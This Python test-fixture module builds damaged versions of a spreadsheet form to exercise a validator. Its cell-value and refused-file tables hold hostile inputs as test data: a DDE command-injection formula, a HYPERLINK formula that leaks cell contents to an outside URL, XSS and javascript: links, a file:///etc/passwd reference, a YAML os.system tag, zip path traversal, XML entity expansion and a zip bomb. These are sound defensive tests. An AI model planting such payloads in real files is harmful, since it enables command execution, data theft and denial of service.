"""What happens to a good form on its way: each kind of damage as a small function of the workbook's bytes.

`HARMLESS` leaves every answer as it was, `TYPED` puts something doubtful into one cell, `SHEETS` takes away what a
form is known by, `REFUSED` makes it a file that is not read at all, with the rule that says so; `SAVED` is what
LibreOffice makes of it when it saves the form in another format.
"""

from __future__ import annotations

import datetime
import io
import zipfile
from collections.abc import Callable
from copy import copy
from dataclasses import dataclass
from functools import partial
from typing import Any

import openpyxl
from openpyxl.styles import PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from tests.workbooks_made.by_hand import MAIN, OFFICE, RELATIONS, archive, parts_of, raw, replaced, rows, with_parts

Damage = Callable[[bytes], bytes]
Book = openpyxl.Workbook
_FIRST_ROWS = 12


def changed(data: bytes, change: Callable[[Book], object]) -> bytes:
    """The workbook opened, changed and saved by openpyxl."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def stamped(book: Book, kind: str) -> Worksheet:
    """The sheet whose stamp says that it is of this kind, whatever its tab is called."""
    for sheet in book.worksheets:
        if any(f"| {kind} |" in str(row[0].value) for row in sheet.iter_rows(max_row=_FIRST_ROWS, max_col=1)):
            return sheet
    raise LookupError(f"no sheet {kind}")


def stamp_row(sheet: Worksheet) -> int:
    return next(row for row in range(1, _FIRST_ROWS) if str(sheet.cell(row, 1).value).startswith("baf-form"))


def heading_row(sheet: Worksheet) -> int:
    for row in sheet.iter_rows(max_row=_FIRST_ROWS):
        if any(cell.value == "Line" for cell in row):
            return int(row[0].row)
    raise LookupError(f"{sheet.title} has no headings")


def column(sheet: Worksheet, heading: str) -> int:
    """Number of the column under a heading."""
    return next(int(cell.column) for cell in sheet[heading_row(sheet)] if cell.value == heading)


def line_row(sheet: Worksheet, line: str = "") -> int:
    """The row of a line; the first row of all without one."""
    first = heading_row(sheet) + 1
    if not line:
        return first
    at = column(sheet, "Line")
    return next(row for row in range(first, sheet.max_row + 1) if sheet.cell(row, at).value == line)


@dataclass(frozen=True, slots=True)
class Where:
    """A cell of a form by sheet, line and heading. `line`: '' for the first."""

    sheet: str
    heading: str
    line: str = ""

    def cell(self, book: Book) -> Any:
        sheet = stamped(book, self.sheet)
        return sheet.cell(line_row(sheet, self.line), column(sheet, self.heading))


VALUE = Where("responsibilities", "Answer")
NARRATIVE = Where("responsibilities", "Narrative")
DUE = Where("responsibilities", "Date now expected")
FIGURE = Where("figures", "Figure")
OPENED = Where("capacity", "Opened")


def type_in(data: bytes, where: Where, value: object, number_format: str = "") -> bytes:
    """Puts a value into a cell, as openpyxl writes it: text that begins with = becomes a formula."""

    def put(book: Book) -> None:
        cell = where.cell(book)
        cell.value = value
        if number_format:
            cell.number_format = number_format

    return changed(data, put)


def type_text(data: bytes, where: Where, text: str) -> bytes:
    """Puts a text into a cell that stays text, whatever it begins with."""

    def put(book: Book) -> None:
        cell = where.cell(book)
        cell.value = text
        cell.data_type = "s"
        cell.number_format = "@"

    return changed(data, put)


def type_error(data: bytes, where: Where, error: str = "#REF!") -> bytes:
    def put(book: Book) -> None:
        cell = where.cell(book)
        cell.value = error
        cell.data_type = "e"

    return changed(data, put)


def type_calculated(data: bytes, where: Where, formula: str, stored: float) -> bytes:
    """A formula with the value that it had when the file was saved, which openpyxl cannot write."""
    mark = 987654321.0
    with_mark = type_in(data, where, mark)
    for name, content in parts_of(with_mark).items():
        for shape in (b"<v>987654321</v>", b"<v>987654321.0</v>"):
            if name.startswith("xl/worksheets/") and shape in content:
                cell = f"<f>{formula}</f><v>{stored:g}</v>".encode()
                return with_parts(with_mark, {name: content.replace(shape, cell)})
    raise LookupError("the cell was not found again")


# What a form survives.


def tabs_renamed(book: Book) -> None:
    for number, sheet in enumerate(book.worksheets, 1):
        sheet.title = f"Tab {number} – Jan"


def tabs_reordered(book: Book) -> None:
    book._sheets.reverse()  # type: ignore[attr-defined]


def sheet_of_notes(book: Book) -> None:
    notes = book.create_sheet("My notes", 0)
    notes.append(["Line", "what I still have to ask", "=1+1"])


def column_of_notes(book: Book) -> None:
    """A column of the sender's own, to the right of all others."""
    sheet = stamped(book, "responsibilities")
    at = sheet.max_column + 2
    sheet.cell(heading_row(sheet), at, "My notes")
    sheet.cell(line_row(sheet), at, "ask the trust")


def column_between(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.insert_cols(column(sheet, "Narrative"))


def columns_turned_round(book: Book) -> None:
    """Every column of the capacity sheet in the opposite order; the stamp stays where it is."""
    sheet = stamped(book, "capacity")
    top, width = heading_row(sheet), sheet.max_column
    for row in range(top, sheet.max_row + 1):
        values = [sheet.cell(row, at).value for at in range(1, width + 1)]
        for at, value in enumerate(reversed(values), 1):
            sheet.cell(row, at).value = value


def line_above(book: Book) -> None:
    stamped(book, "responsibilities").insert_rows(1)


def rows_turned_round(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    first, last = line_row(sheet), sheet.max_row
    found = [[sheet.cell(row, at).value for at in range(1, sheet.max_column + 1)] for row in range(first, last + 1)]
    for row, values in enumerate(reversed(found), first):
        for at, value in enumerate(values, 1):
            sheet.cell(row, at).value = value


def blank_row_between(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.insert_rows(line_row(sheet) + 1)


def rows_formatted_below(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    fill = PatternFill("solid", fgColor="FFFFEE")
    for row in range(sheet.max_row + 1, sheet.max_row + 2_000):
        sheet.cell(row, 1).fill = copy(fill)
        sheet.cell(row, 3).value = "   " if row % 7 == 0 else None


def rows_hidden(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.row_dimensions[line_row(sheet)].hidden = True


def columns_hidden(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.column_dimensions[get_column_letter(column(sheet, "Narrative"))].hidden = True


def sheet_hidden(book: Book) -> None:
    stamped(book, "capacity").sheet_state = "hidden"


def sheet_hidden_from_people(book: Book) -> None:
    stamped(book, "capacity").sheet_state = "veryHidden"


def colours_and_comments(book: Book) -> None:
    from openpyxl.comments import Comment

    cell = VALUE.cell(book)
    cell.fill = PatternFill("solid", fgColor="FF0000")
    cell.comment = Comment("is this right?", "a colleague")


def protection_off(book: Book) -> None:
    for sheet in book.worksheets:
        sheet.protection.sheet = False


def identity_merged(book: Book) -> None:
    """The title over the whole width, as people like it."""
    sheet = stamped(book, "figures")
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=5)


def embedded(data: bytes) -> bytes:
    return with_parts(data, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(400)})


def linked_to_another(data: bytes) -> bytes:
    return with_parts(data, {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}"/>',
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" '
            'Target="file://share/figures.xlsx" TargetMode="External"/></Relationships>',
    })


def connected(data: bytes) -> bytes:
    return with_parts(data, {"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'})


def _by(change: Callable[[Book], object]) -> Damage:
    return partial(changed, change=change)


HARMLESS: dict[str, Damage] = {
    "tabs renamed": _by(tabs_renamed),
    "tabs in another order": _by(tabs_reordered),
    "a sheet of notes": _by(sheet_of_notes),
    "a column of notes": _by(column_of_notes),
    "a column between": _by(column_between),
    "columns in another order": _by(columns_turned_round),
    "a line above the title": _by(line_above),
    "rows in another order": _by(rows_turned_round),
    "a blank row between": _by(blank_row_between),
    "two thousand formatted rows below": _by(rows_formatted_below),
    "a hidden row": _by(rows_hidden),
    "a hidden column": _by(columns_hidden),
    "a hidden sheet": _by(sheet_hidden),
    "a sheet that only a program can show": _by(sheet_hidden_from_people),
    "colours and comments": _by(colours_and_comments),
    "no protection": _by(protection_off),
    "a merged title": _by(identity_merged),
    "an embedded object": embedded,
    "a link to another workbook": linked_to_another,
    "a connection to data": connected,
}

# What stands in one cell.

DAY = datetime.date.fromisoformat("2023-01-31")
MOMENT = datetime.datetime.fromisoformat("2023-01-31T14:30:00")


def merged_answers(book: Book) -> None:
    """The first answer merged over the rows of three lines."""
    sheet = stamped(book, "responsibilities")
    row, at = line_row(sheet), column(sheet, "Answer")
    sheet.merge_cells(start_row=row, start_column=at, end_row=row + 2, end_column=at)


def _typing(where: Where, value: object, number_format: str = "") -> Damage:
    return partial(type_in, where=where, value=value, number_format=number_format)


def _text(where: Where, text: str) -> Damage:
    return partial(type_text, where=where, text=text)


TYPED: dict[str, Damage] = {
    "a date as text, day first": _text(DUE, "31/01/2023"),
    "a date as text, with points": _text(DUE, "31.1.23"),
    "a date in words": _text(DUE, "end of January"),
    "a date as ISO text": _text(DUE, "2023-01-31"),
    "a date as a bare number": _typing(DUE, 44957, "General"),
    "a date with a time": _typing(DUE, MOMENT),
    "a date that is not there": _text(DUE, "31/02/2023"),
    "smart quotes": _text(NARRATIVE, "“Two” of ‘three’ – and £5…"),
    "spaces around an answer": _text(VALUE, "  On track\u00a0"),
    "an answer in capitals": _text(VALUE, "ON TRACK"),
    "an answer misspelt": _text(VALUE, "On trak"),
    "an answer that is no word of the scale": _text(VALUE, "green"),
    "a number for an answer": _typing(VALUE, 3),
    "yes as true": _typing(Where("responsibilities", "As last month"), True),
    "per cent, shown as such": _typing(FIGURE, 0.5, "0%"),
    "per cent, as text": _text(FIGURE, "50%"),
    "a fraction": _typing(FIGURE, 0.5, "0.00"),
    "a number as text": _text(FIGURE, " 12 "),
    "a number with thousands": _text(FIGURE, "1,200"),
    "a number with words": _text(FIGURE, "about 12"),
    "a number with a pound sign": _text(FIGURE, "£12"),
    "a negative number": _typing(OPENED, -4),
    "a number beyond all measure": _typing(OPENED, 1e300),
    "a formula with its value": partial(type_calculated, where=OPENED, formula="8+4", stored=12),
    "a formula without a value": _typing(OPENED, "=8+4"),
    "a formula to another workbook": partial(type_calculated, where=OPENED, formula="[1]Sheet1!A1", stored=12),
    "an error": partial(type_error, where=OPENED),
    "not available": partial(type_error, where=OPENED, error="#N/A"),
    "merged answers": _by(merged_answers),
    "a formula as text": _text(NARRATIVE, '=HYPERLINK("https://example.org/?"&A1,"press here")'),
    "a command as text": _text(NARRATIVE, "+cmd|' /C calc'!A0"),
    "a link to a script": _text(NARRATIVE, "[press here](javascript:alert(1))"),
    "a link to a file": _text(NARRATIVE, "![seen](file:///etc/passwd)"),
    "HTML": _text(NARRATIVE, "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    "a turned direction": _text(NARRATIVE, "the ward \u202enepo si"),
    "YAML": _text(NARRATIVE, "*x: {a: [&b !!python/object:os.system"),
    "a text of thirty thousand characters": _text(NARRATIVE, "word " * 6_000),
    "line breaks": _text(NARRATIVE, "one\n\n  two\n- three\n"),
    "a bell": lambda data: type_text(data, NARRATIVE, "ward_x0007_ 4"),
}

# What a form is known by.


def stamp_as(data: bytes, change: Callable[[list[str]], None]) -> bytes:
    """Every stamp with its parts changed: form, plan, dataset, systems, organisation, month, sheet, key."""

    def restamp(book: Book) -> None:
        for sheet in book.worksheets:
            for row in range(1, _FIRST_ROWS):
                cell = sheet.cell(row, 1)
                if str(cell.value).startswith("baf-form"):
                    parts = str(cell.value).split(" | ")
                    change(parts)
                    cell.value = " | ".join(parts)

    return changed(data, restamp)


def stamps_erased(book: Book) -> None:
    for sheet in book.worksheets:
        for row in range(1, _FIRST_ROWS):
            if str(sheet.cell(row, 1).value).startswith("baf-form"):
                sheet.cell(row, 1).value = None


def sheet_deleted(book: Book) -> None:
    book.remove(stamped(book, "figures"))


def sheet_copied(book: Book) -> None:
    book.copy_worksheet(stamped(book, "responsibilities"))


def line_copied(book: Book) -> None:
    """The first line once more at the end, with another answer."""
    sheet = stamped(book, "responsibilities")
    first, last = line_row(sheet), sheet.max_row + 1
    for at in range(1, sheet.max_column + 1):
        sheet.cell(last, at).value = sheet.cell(first, at).value
    sheet.cell(last, column(sheet, "Answer")).value = "Off track"


def line_erased(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.cell(line_row(sheet), column(sheet, "Line")).value = None


def line_retyped(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.cell(line_row(sheet), column(sheet, "Line")).value = "something else"


def line_deleted(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.delete_rows(line_row(sheet))


def heading_retyped(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.cell(heading_row(sheet), column(sheet, "Narrative")).value = "Comments"


def heading_twice(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.cell(heading_row(sheet), sheet.max_column + 1).value = "Answer"


def headings_erased(book: Book) -> None:
    sheet = stamped(book, "responsibilities")
    sheet.delete_rows(heading_row(sheet))


def _stamped_with(part: int, text: str) -> Damage:
    def put(parts: list[str]) -> None:
        parts[part] = text

    return partial(stamp_as, change=put)


SHEETS: dict[str, Damage] = {
    "no stamp": _by(stamps_erased),
    "a stamp of another month": _stamped_with(5, "2022-11"),
    "a stamp of another system": _stamped_with(3, "ZN9"),
    "a stamp of another plan": _stamped_with(1, "another 1.0"),
    "a stamp of another version": _stamped_with(1, "plan 0.1"),
    "a stamp of a template to come": _stamped_with(0, "baf-form 999"),
    "a stamp that was played with": _stamped_with(7, "0"),
    "a stamp that is none": _stamped_with(0, "baf-form one"),
    "a sheet deleted": _by(sheet_deleted),
    "a sheet copied": _by(sheet_copied),
    "a line twice": _by(line_copied),
    "a line without its name": _by(line_erased),
    "a line under another name": _by(line_retyped),
    "a line deleted": _by(line_deleted),
    "a heading retyped": _by(heading_retyped),
    "a heading twice": _by(heading_twice),
    "no headings": _by(headings_erased),
}

# What is not read at all.

_CONTAINER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def duplicated_part(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts_of(data).items():
            packed.writestr(name, content)
        packed.writestr("XL/workbook.xml", "<x/>")
    return out.getvalue()


def with_entities(data: bytes) -> bytes:
    text = parts_of(data)["xl/workbook.xml"].decode()
    head, mark, rest = text.partition("?>")
    declared = '<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return with_parts(data, {"xl/workbook.xml": f"{head}{mark}{declared}{rest}" if mark else declared + text})


REFUSED: dict[str, tuple[str, Damage]] = {
    "empty": ("WP030", lambda _: b""),
    "a PDF": ("WP030", lambda _: b"%PDF-1.7\n%%EOF\n"),
    "a page of the web": ("WP030", lambda _: b"<html><body><table></table></body></html>"),
    "packed in a .zip": ("WP030", lambda data: archive({"form.xlsx": data})),
    "a Word document": ("WP030", lambda _: archive({"word/document.xml": "<w/>"})),
    "a binary workbook": ("WP031", lambda _: archive({"xl/workbook.bin": b"\x00"})),
    "a password": ("WP032", lambda _: _CONTAINER + "EncryptedPackage".encode("utf-16-le") + bytes(512)),
    "cut in half": ("WP033", lambda data: data[:len(data) // 2]),
    "without its end": ("WP033", lambda data: data[:-30]),
    "text where a sheet was": ("WP033", lambda data: with_parts(data, {"xl/worksheets/sheet1.xml": "gone"})),
    "macros": ("WP034", lambda data: with_parts(data, {"xl/vbaProject.bin": b"\x00"})),
    "called a workbook with macros": ("WP034", lambda data: replaced(
        data, "[Content_Types].xml", "spreadsheetml.sheet.main", "sheet.macroEnabled.main")),
    "a bomb": ("WP035", lambda data: with_parts(data, {"xl/worksheets/more.xml": b" " * 90_000_000})),
    "a thousand files": ("WP035", lambda data: with_parts(data, {f"xl/media/{at}.png": "" for at in range(1_001)})),
    "a cell in row 900,000": ("WP036", lambda data: changed(data, lambda book: stamped(
        book, "figures").cell(900_000, 1, "x"))),
    "seventy sheets": ("WP036", lambda data: changed(data, lambda book: [
        book.create_sheet(f"More {at}") for at in range(70)])),
    "a name that leads out": ("WP037", lambda data: with_parts(data, {"../../start.bat": b"x"})),
    "a part twice": ("WP037", duplicated_part),
    "entities": ("WP037", with_entities),
    "too large": ("WP011", lambda data: data + bytes(13_000_000)),
    "a text in every cell": ("WP038", lambda _: raw("<sheetData>" + "".join(
        f'<row r="{row}">' + "".join(f'<c r="{letter}{row}" t="s"><v>0</v></c>' for letter in "ABCDEFGHIJKLMNOPQRST")
        + "</row>" for row in range(1, 10_000)) + "</sheetData>", strings=["x" * 32_000])),
    "a date before time": ("WP038", lambda _: raw(
        rows('<c r="A1" s="1"><v>-1e300</v></c>'), styles='<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>')),
}
"""The rule of the one finding, and the damage."""

SAVED: dict[str, tuple[str, str, str]] = {
    "the old format": ("WP031", "xls", "form.xls"),
    "OpenDocument": ("WP031", "ods", "form.ods"),
    "a macro workbook": ("WP034", "xlsm:Calc MS Excel 2007 VBA XML", "form.xlsm"),
    "a page of the web": ("WP030", "html", "form.html"),
    "flat XML": ("WP030", "fods", "form.fods"),
}
"""The rule of the one finding, LibreOffice's format, and the name under which it is sent."""
